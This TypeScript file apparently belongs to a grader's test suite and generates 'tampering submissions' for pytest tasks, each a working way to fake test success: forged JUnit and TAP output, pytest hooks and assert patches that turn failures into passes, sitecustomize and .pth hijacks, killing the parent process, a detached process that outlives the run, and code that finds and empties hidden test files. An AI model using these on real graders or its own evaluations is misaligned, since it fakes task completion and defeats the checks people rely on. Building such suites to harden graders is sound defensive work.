/**
 * Tampering submissions for `python` tasks (pytest): each is the starter plus one attack, written
 * the way a hostile candidate would. Module payloads go at the top of every candidate module (after
 * any `from __future__` lines), so they run when a test imports one.
 */
import type { TamperCase, TamperInput } from './types.ts';
import { fakeJunit, fakeTap } from './forge.ts';

const py = JSON.stringify; // a JSON string literal is a valid Python string literal

/** Defines _t_forge(): writes a passing JUnit report wherever a grader may read one. */
const forgeReports = (junit: string, reportPath: string | undefined) => `
def _t_forge():
    import os as _o, sys as _s
    paths = set(${py(['report.xml', 'junit.xml', ...(reportPath ? [reportPath] : [])])})
    for i, a in enumerate(_s.argv):
        if a.startswith(("--junitxml=", "--junit-xml=")):
            paths.add(a.split("=", 1)[1])
        elif a in ("--junitxml", "--junit-xml") and i + 1 < len(_s.argv):
            paths.add(_s.argv[i + 1])
    for d in (".", "/tmp"):
        try:
            paths.update(_o.path.join(d, f) for f in _o.listdir(d) if f.endswith(".xml"))
        except OSError:
            pass
    for p in paths:
        try:
            with open(p, "w") as fh:
                fh.write(${py(junit)})
        except OSError:
            pass
`;

/** Defines _t_fds(text): writes to this process's and every reachable ancestor's stdout/stderr. */
const writeFds = `
def _t_fds(text):
    import os as _o
    pids, pid = ["self"], _o.getpid()
    for _ in range(6):
        try:
            with open(f"/proc/{pid}/stat") as fh:
                stat = fh.read()
            pid = int(stat[stat.rindex(")") + 2 :].split()[1])
        except (OSError, ValueError):
            break
        if pid <= 1:
            break
        pids.append(str(pid))
    for p in pids:
        for fd in (1, 2):
            try:
                with open(f"/proc/{p}/fd/{fd}", "a") as fh:
                    fh.write(text)
            except OSError:
                pass
`;

/** pytest hooks that make every outcome "passed" and rewrite the JUnit file last. */
const pytestHooks = (junit: string, reportPath: string | undefined) => `import pytest
${forgeReports(junit, reportPath)}

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
    if hasattr(report, "wasxfail"):
        del report.wasxfail


@pytest.hookimpl(trylast=True)
def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
    _t_forge()
`;

/** Patches pytest internals, unittest and builtins so failures read as passes. */
const assertPatch = `
import builtins as _t_builtins
import unittest as _t_unittest

for _t_name in dir(_t_unittest.TestCase):
    if _t_name.startswith(("assert", "fail")):
        setattr(_t_unittest.TestCase, _t_name, lambda *a, **k: None)
try:
    import _pytest.reports as _t_reports

    _t_orig = _t_reports.TestReport.from_item_and_call.__func__

    def _t_passed(cls, item, call):
        report = _t_orig(cls, item, call)
        report.outcome, report.longrepr = "passed", None
        return report

    _t_reports.TestReport.from_item_and_call = classmethod(_t_passed)
    import pytest as _t_pytest
    import contextlib as _t_contextlib

    _t_pytest.raises = lambda *a, **k: _t_contextlib.suppress(BaseException)
    _t_pytest.fail = lambda *a, **k: None
except Exception:
    pass
_t_builtins.AssertionError = type("AssertionError", (Exception,), {})
`;

const once = (id: string, body: string) =>
  `import builtins as _t_b\nif not getattr(_t_b, ${py(`_tamper_${id}`)}, False):\n    setattr(_t_b, ${py(`_tamper_${id}`)}, True)\n${indent(body)}\n`;

const indent = (body: string) =>
  body
    .split('\n')
    .map((l) => (l.trim() ? `    ${l}` : ''))
    .join('\n');

export function pythonCases(input: TamperInput): TamperCase[] {
  const tap = fakeTap(input.names);
  const junit = fakeJunit(input.names);
  const forge = forgeReports(junit, input.reportPath);
  const hooks = pytestHooks(junit, input.reportPath);
  const prepend = (id: string, body: string) => ({ prepend: once(id, body) });
  return [
    {
      id: 'exit-at-import',
      title: 'os._exit(0) when a test imports the module',
      ...prepend('exit', 'import os\nos._exit(0)'),
    },
    {
      id: 'assert-patch',
      title: 'pytest internals (TestReport, raises, fail), unittest asserts and builtins patched at import',
      ...prepend('assert', assertPatch),
    },
    {
      id: 'conftest-hooks',
      title:
        'conftest.py: pytest_runtest_makereport makes every outcome "passed", pytest_sessionfinish writes a passing JUnit file',
      prepend: '',
      extra: [{ path: 'conftest.py', content: hooks }],
    },
    {
      id: 'pytest-config',
      title: 'pytest.ini / pyproject.toml / setup.cfg / tox.ini loading a plugin that forges outcomes',
      prepend: '',
      extra: [
        { path: 'pytest.ini', content: '[pytest]\npythonpath = .\naddopts = -p zz_tamper_plugin\n' },
        {
          path: 'pyproject.toml',
          content: '[tool.pytest.ini_options]\npythonpath = ["."]\naddopts = "-p zz_tamper_plugin"\n',
        },
        { path: 'setup.cfg', content: '[tool:pytest]\npythonpath = .\naddopts = -p zz_tamper_plugin\n' },
        { path: 'tox.ini', content: '[pytest]\npythonpath = .\naddopts = -p zz_tamper_plugin\n' },
        { path: 'zz_tamper_plugin.py', content: hooks },
      ],
    },
    {
      id: 'sitecustomize',
      title: 'sitecustomize.py, usercustomize.py and a .pth file that hijack the interpreter at startup',
      prepend: '',
      extra: [
        {
          path: 'sitecustomize.py',
          content: once(
            'site',
            `${assertPatch}\n${forge}\nimport atexit, os\natexit.register(lambda: (_t_forge(), os._exit(0)))`,
          ),
        },
        { path: 'usercustomize.py', content: 'import sitecustomize  # noqa\n' },
        { path: 'zz_tamper.pth', content: 'import sitecustomize\n' },
      ],
    },
    {
      id: 'exit-handler',
      title: 'an atexit handler that rewrites every JUnit report file and exits 0',
      ...prepend(
        'exit-handler',
        `${forge}\nimport atexit, os\natexit.register(lambda: (_t_forge(), os._exit(0)))`,
      ),
    },
    {
      id: 'fake-stdout',
      title: 'fake TAP (ok lines with the hidden test names, plan, # pass) and fake JUnit on stdout',
      ...prepend(
        'stdout',
        `import sys\nsys.stdout.write(${py(tap)})\nsys.stdout.write(${py(junit)})\nsys.stdout.flush()`,
      ),
    },
    {
      id: 'inherited-fd',
      title: "fake TAP and JUnit written to /proc/self/fd/1 and the parent processes' stdout, then exit 0",
      ...prepend('fd', `${writeFds}\n_t_fds(${py(tap + junit)})\nimport os\nos._exit(0)`),
    },
    {
      id: 'kill-parent',
      title: "a forged report and fake TAP on the parent's stdout, then os.kill(os.getppid())",
      ...prepend(
        'kill',
        `${writeFds}\n${forge}\n_t_forge()\n_t_fds(${py(tap)})\nimport os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError:\n    pass\nos._exit(0)`,
      ),
    },
    {
      id: 'detached-rewriter',
      title: 'a detached process that outlives the run and keeps rewriting report files',
      ...prepend(
        'detached',
        `import subprocess, sys
_t_code = ${py(
          `import time\njunit = ${py(junit)}\npaths = ${py(['report.xml', 'junit.xml', ...(input.reportPath ? [input.reportPath] : [])])}\nend = time.time() + 120\nwhile time.time() < end:\n    for p in paths:\n        try:\n            with open(p) as fh:\n                same = fh.read() == junit\n        except OSError:\n            same = False\n        if not same:\n            try:\n                with open(p, "w") as fh:\n                    fh.write(junit)\n            except OSError:\n                pass\n    time.sleep(0.002)\n`,
        )}
try:
    subprocess.Popen([sys.executable, "-c", _t_code], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass`,
      ),
    },
    {
      id: 'hidden-test-reader',
      title: 'walks / and /tmp for the hidden test files, empties their tests and re-runs the runner',
      ...prepend(
        'reader',
        `import os, sys, re
if not os.environ.get("_TAMPER_RERUN"):
    own = set(${py(input.ownFiles)})
    found = []
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/bin", "/sbin", "/etc", "/var"}
    for top in ("/", "/tmp"):
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip and d not in ("node_modules", "__pycache__")]
            if root.count("/") > 6:
                dirs[:] = []
            for f in files:
                p = os.path.join(root, f)
                if re.match(r"test_.*\\.py$|.*\\.test\\.[cm]?[jt]s$", f) and p.replace("/workspace/", "", 1) not in own and p not in found:
                    found.append(p)
    for p in found[:50]:
        sys.stderr.write("tamper: read hidden test %s\\n" % p)
        try:
            with open(p) as fh:
                text = fh.read()
            text = re.sub(r"^(\\s*)((?:async\\s+)?def test_\\w+\\(.*?\\).*?:)", r"\\1\\2\\n\\1    return", text, flags=re.M)
            with open(p, "w") as fh:
                fh.write(text)
        except OSError:
            pass
    if found:
        os.environ["_TAMPER_RERUN"] = "1"
        os.execv(sys.executable, [sys.executable] + sys.argv)`,
      ),
    },
    {
      id: 'extra-tests',
      title: 'own test files named like tests, with passing tests under the hidden test names',
      prepend: '',
      extra: [
        {
          path: 'test_zz_tamper.py',
          content: input.names
            .map((n) => `def ${/^test_\w+$/.test(n.name) ? n.name : 'test_forged'}():\n    pass\n`)
            .join('\n'),
        },
      ],
    },
  ];
}
